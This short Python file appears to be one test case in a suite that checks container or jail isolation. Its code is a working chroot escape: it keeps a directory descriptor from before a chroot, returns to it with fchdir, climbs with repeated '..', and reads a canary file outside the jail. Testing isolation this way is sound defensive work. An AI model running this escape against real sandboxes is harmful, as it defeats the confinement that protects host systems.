# row = "B6"
# boundary = "the jail's root"
# ending = "ok"
# layers = ["seccomp", "capabilities"]
# control = "namespaces"
"""Leaves its root by the oldest trick: a descriptor from before a chroot, and up from there."""

import os

from attack import FACTS, attempt


def break_out():
    number = os.open(".", os.O_RDONLY)
    os.mkdir("below")
    os.chroot("below")
    os.fchdir(number)
    for _ in range(100):
        os.chdir("..")
    with open(os.path.relpath(FACTS["canary"], "/")) as file:
        return f"read {file.read()}"


attempt("chroot", break_out)
